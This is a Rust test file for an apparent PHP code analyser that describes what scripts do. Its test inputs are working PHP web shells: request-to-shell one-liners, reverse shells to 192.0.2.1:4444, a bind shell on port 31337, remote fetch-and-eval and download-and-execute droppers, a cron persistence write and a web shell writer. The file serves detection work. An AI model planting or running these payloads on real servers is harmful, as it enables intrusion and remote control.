//! Code that says what it does.

use super::{acts, does};

#[test]
fn what_a_request_holds_is_run() {
    for (script, act) in [
        (
            "<?php system($_GET['c']); ?>",
            "evaluate shell: {request GET[c]}",
        ),
        (
            "<?php eval($_POST['x']);",
            "evaluate PHP: {request POST[x]}",
        ),
        ("<?=`$_GET[0]`?>", "evaluate shell: {request GET"),
        (
            "<html><? @eval($_REQUEST[\"a\"]); ?></html>",
            "evaluate PHP: {request REQUEST[a]}",
        ),
        (
            "<?php echo shell_exec($_SERVER['HTTP_X_CMD'].' 2>&1');",
            "evaluate shell: {request SERVER[HTTP_X_CMD]}",
        ),
        (
            "<?php $h=getallheaders(); passthru($h['X']);",
            "evaluate shell: {request headers",
        ),
        (
            "<?php exec(file_get_contents('php://input'), $o); print_r($o);",
            "evaluate shell: {request php://input}",
        ),
        (
            "<?php include 'php://input';",
            "evaluate PHP: {request php://input}",
        ),
        (
            "<?php include($_FILES['f']['tmp_name']);",
            "evaluate PHP: {request FILES[f]",
        ),
        (
            "<?php if (isset($_COOKIE['k'])) { popen($_COOKIE['k'], 'r'); }",
            "evaluate shell: {request COOKIE[k]}",
        ),
        (
            "<?php $p = proc_open($_POST['c'], [], $pipes);",
            "evaluate shell: {request POST[c]}",
        ),
        (
            "<?php pcntl_exec('/bin/sh', ['-c', $_GET['c']]);",
            "evaluate shell: {request GET[c]}",
        ),
        (
            "<?php function run($c) { return shell_exec($c); } echo run($_GET['q']);",
            "evaluate shell: {request GET[q]}",
        ),
        (
            "<?php class A { public $c; function __construct($c) { $this->c = $c; } function __destruct() { system($this->c); } } new A($_GET['c']);",
            "evaluate shell: {request GET[c]}",
        ),
        (
            "<?php foreach ($_POST as $k => $v) { eval($v); }",
            "evaluate PHP: {request POST}",
        ),
        (
            "<?php extract($_GET); $f = $_GET['a']; $f($_GET['b']);",
            "evaluate PHP: {request GET[a]}({request GET[b]})",
        ),
        (
            "<?php $_GET['a']($_GET['b']);",
            "evaluate PHP: {request GET[a]}({request GET[b]})",
        ),
        (
            "<?php array_map($_GET['f'], [$_GET['x']]);",
            "evaluate PHP: {request GET[f]}({request GET[x]})",
        ),
        (
            "<?php assert($_POST['p']);",
            "evaluate PHP: {request POST[p]}",
        ),
        (
            "<script language=\"php\">system($_GET['x']);</script>",
            "evaluate shell: {request GET[x]}",
        ),
    ] {
        assert!(does(script, act));
    }
}

#[test]
fn connections_carry_shells() {
    let exec = r#"<?php $s = fsockopen("192.0.2.1", 4444); exec("/bin/sh -i <&3 >&3 2>&3");"#;
    assert!(does(exec, "connect 192.0.2.1:4444"));
    assert!(does(exec, "execute /bin/sh -i <#1 >#1"));
    let open = r#"<?php $s=fsockopen("tcp://192.0.2.1",4444); $p=proc_open("/bin/sh -i", array(0=>$s, 1=>$s, 2=>$s), $pipes);"#;
    assert!(does(open, "execute /bin/sh -i <#1 >#1"));
    let pipes = r#"<?php
        $sock = stream_socket_client("tcp://192.0.2.1:4444");
        $d = [0 => ["pipe", "r"], 1 => ["pipe", "w"], 2 => ["pipe", "w"]];
        $process = proc_open('uname -a; /bin/sh -i', $d, $pipes);
        while (1) {
            if (feof($sock)) break;
            $in = fread($sock, 1400);
            fwrite($pipes[0], $in);
            $out = fread($pipes[1], 1400);
            fwrite($sock, $out);
        }"#;
    assert!(does(pipes, "execute /bin/sh -i <#1"));
    let received = r#"<?php $s = socket_create(AF_INET, SOCK_STREAM, SOL_TCP);
        socket_connect($s, "192.0.2.1", 80);
        while ($c = socket_read($s, 2048)) { $o = shell_exec($c); socket_write($s, $o, strlen($o)); }"#;
    assert!(does(received, "connect 192.0.2.1:80"));
    assert!(does(received, "evaluate shell: {received}"));
    let bound = r#"<?php $s = stream_socket_server("tcp://0.0.0.0:31337");
        $c = stream_socket_accept($s); fwrite($c, shell_exec(fgets($c)));"#;
    assert!(does(bound, "listen 0.0.0.0:31337"));
    assert!(does(bound, "evaluate shell: {received}"));
}

#[test]
fn fetches_and_files_are_told() {
    assert!(does(
        "<?php eval(file_get_contents('http://192.0.2.1/a.txt'));",
        "evaluate PHP: {content of http://192.0.2.1/a.txt}"
    ));
    assert!(does(
        "<?php file_put_contents('/tmp/x', fopen('http://192.0.2.1/x', 'r')); chmod('/tmp/x', 0755); system('/tmp/x');",
        "fetch http://192.0.2.1/x"
    ));
    assert!(does(
        "<?php $c = curl_init('http://192.0.2.1/p'); curl_setopt($c, CURLOPT_RETURNTRANSFER, 1); eval('?>'.curl_exec($c));",
        "evaluate PHP: ?>{content of http://192.0.2.1/p}"
    ));
    assert!(does(
        "<?php copy('http://192.0.2.1/x', '/tmp/.x');",
        "fetch http://192.0.2.1/x to /tmp/.x"
    ));
    assert!(does(
        "<?php file_put_contents('/etc/cron.d/x', '* * * * * root sh /tmp/x');",
        "write /etc/cron.d/x"
    ));
    assert!(does(
        "<?php move_uploaded_file($_FILES['a']['tmp_name'], './'.$_FILES['a']['name']);",
        "write ./{request FILES[a]}: {request FILES[a]}"
    ));
    assert!(does(
        "<?php $f = fopen('/var/www/html/s.php', 'w'); fwrite($f, '<?php eval($_POST[1]);');",
        "write /var/www/html/s.php: <?php eval"
    ));
}

#[test]
fn lines_are_those_of_the_file() {
    let lowered = super::lowered("<html>\n<?php\n\nsystem('id');\n");
    assert!(
        lowered.acts.iter().all(|act| act.line == 4),
        "{:?}",
        lowered.acts
    );
    assert!(
        lowered
            .acts
            .iter()
            .any(|act| act.evidence.contains("system('id')"))
    );
}

#[test]
fn code_of_a_command_line_has_no_tag() {
    let acts = acts("$s=fsockopen('192.0.2.1',80);exec('sh <&3 >&3 2>&3');");
    assert!(
        acts.iter().any(|act| act.starts_with("execute sh  <#1")),
        "{acts:?}"
    );
}
